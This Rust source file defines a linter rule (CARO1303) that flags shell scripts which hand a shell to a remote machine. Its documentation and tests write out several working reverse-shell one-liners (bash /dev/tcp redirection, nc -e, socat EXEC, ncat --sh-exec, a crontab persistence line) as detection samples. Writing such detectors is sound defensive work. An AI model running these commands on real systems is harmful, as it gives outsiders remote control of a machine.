//! CARO1303: a shell is handed to another machine.

use super::given::given;
use super::listener::{connection, given_shell, is_connector, joined_descriptor, listens, takes_commands};
use crate::flow::Origin;
use crate::rules::{Check, Sink};
use crate::script::{Command, PartKind, RedirectOperator};

rule! {
    /// Gives whoever answers at the other end a shell on this machine.
    ///
    /// Commands come in over the connection and run with the rights of this script; firewalls do not see it, since the
    /// connection goes out. For remote work use `ssh`, which asks both sides who they are.
    ///
    /// To decide: Who is at the other end, and why do they not come in by `ssh`?
    ///
    /// ```sh bad
    /// bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
    /// ```
    /// ```sh bad
    /// nc -e /bin/sh 203.0.113.7 4444
    /// ```
    /// ```sh bad
    /// socat TCP:203.0.113.7:4444 EXEC:'bash -li',pty,stderr
    /// ```
    /// ```sh bad
    /// exec 5<>/dev/tcp/203.0.113.7/4444
    /// sh <&5 >&5 2>&5
    /// ```
    /// ```sh good
    /// timeout 1 bash -c '</dev/tcp/db/5432' && echo up
    /// ```
    /// ```sh good
    /// nc -zv db 5432
    /// ```
    /// ```sh good
    /// echo 'stats' | nc -w1 cache 11211
    /// ```
    /// ```sh good
    /// ssh -t web bash -i
    /// ```
    "CARO1303" "reverse-shell",
    Danger,
    Check::AnyCommand { run: check }
}

fn check(command: &Command, sink: &mut Sink<'_>) {
    let shell = command.program.as_deref().unwrap_or("a command").to_owned();
    // `bash -i >& /dev/tcp/…`, `sh < /dev/tcp/…`
    let opened = command.redirects.iter().find_map(|it| Some((it, connection(it, sink)?)));
    if let Some((redirect, connection)) = &opened
        && takes_commands(command)
    {
        let reads = matches!(redirect.operator, RedirectOperator::Read | RedirectOperator::ReadWrite);
        if reads || command.has_flag('i', "") || command.redirects.len() > 1 {
            sink.report(command.name_span(), format!("gives a shell on this machine to {}", peer(connection)));
            return;
        }
    }
    if takes_commands(command) && joined_descriptor(&command.redirects).is_some() {
        sink.report(command.name_span(), format!("`{shell}` takes its commands from a connection and answers there"));
        return;
    }
    // `while read -r line; do $line >&5 2>&5; done`
    let is_line = command.words.first().is_some_and(|it| {
        matches!(&*it.parts, [only] if matches!(only.kind, PartKind::Parameter(_)))
            && sink.value(it).is_from(Origin::Typed)
    });
    let answers = |fd: Option<&str>| {
        command.redirects.iter().any(|it| {
            it.operator == RedirectOperator::DuplicateWrite
                && it.fd.as_deref() == fd
                && it.target.literal().and_then(|it| it.parse::<u32>().ok()).is_some_and(|it| it > 2)
        })
    };
    if is_line && answers(None) && answers(Some("2")) {
        sink.report(command.span, "runs each line that arrives, and sends back what it prints".to_owned());
        return;
    }
    let awk = matches!(command.program.as_deref(), Some("awk" | "gawk" | "mawk"));
    if awk
        && let Some(word) = command.operands().next()
        && sink
            .possible(word, |it| {
                (it.contains("/inet/tcp/") || it.contains("/inet/udp/"))
                    && it.contains("|&")
                    && it.matches("getline").count() > 1
            })
            .is_some()
    {
        let span = word.span;
        sink.report(span, "runs commands that arrive over a connection, and answers there".to_owned());
        return;
    }
    if !is_connector(command) {
        return;
    }
    let given = given(command, sink);
    if listens(command, &given) {
        return;
    }
    if let Some(shell) = given_shell(command, &given) {
        let host = given.iter().map(|it| &it.text).find(|it| !it.starts_with('-') && **it != shell);
        let to = host.map_or("another machine".to_owned(), |it| peer(it));
        sink.report(command.name_span(), format!("gives a shell on this machine to {to}"));
    }
}

/// Who is at the other end, for a message.
fn peer(address: &str) -> String {
    let name = address.trim_start_matches("/dev/tcp/").trim_start_matches("/dev/udp/");
    let name: String = name.chars().take(60).collect();
    if name.is_empty() {
        "whoever answers".to_owned()
    } else {
        format!("whoever answers at `{}`", name.replace('`', ""))
    }
}

#[cfg(test)]
mod tests {
    use crate::rules::tests::check_marks;

    #[test]
    fn spellings_are_many() {
        for line in [
            "sh -i >& /dev/udp/10.0.0.1/53 0>&1",
            "bash -i 5<>/dev/tcp/10.0.0.1/53 0<&5 1>&5 2>&5",
            "sh </dev/tcp/10.0.0.1/53",
            "zsh <&196 >&196 2>&196",
        ] {
            let end = line.find(' ').unwrap_or(2);
            check_marks(&format!("{line}\n#mark 0 0 {end} CARO1303\n"));
        }
        check_marks("H=10.0.0.1\nsudo bash -i &>/dev/tcp/$H/443 <&1\n#    ^^^^ CARO1303\n");
        check_marks("ncat 10.0.0.1 443 --sh-exec 'bash -i'\n#mark 0 0 4 CARO1303\n");
        check_marks("busybox nc 10.0.0.1 443 -e sh\n#       ^^ CARO1303\n");
        check_marks("nohup sh -c 'bash -i >& /dev/tcp/10.0.0.1/53 0>&1' &\n#            ^^^^ CARO1303\n");
        check_marks("echo '@hourly bash -i >& /dev/tcp/10.0.0.1/53 0>&1' | crontab -\n#mark 0 54 63 CARO0612\n");
        check_marks("while read -r l; do $l 2>&5 >&5; done <&5\n#                   ^^^^^^^^^^^ CARO1303\n");
    }

    #[test]
    fn asking_a_port_is_ordinary() {
        check_marks("exec 3<>/dev/tcp/www/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\ncat <&3\n");
        check_marks("(: </dev/tcp/db/5432) 2>/dev/null && echo up\nbash -c 'echo > /dev/tcp/db/80'\n");
        check_marks("socat - TCP:db:5432\nnc db 80 < request\necho x | socat - UDP:log:514\n");
        check_marks("bash report.sh > /dev/tcp/log/514\nsh build.sh <&3 >&4\n");
    }
}
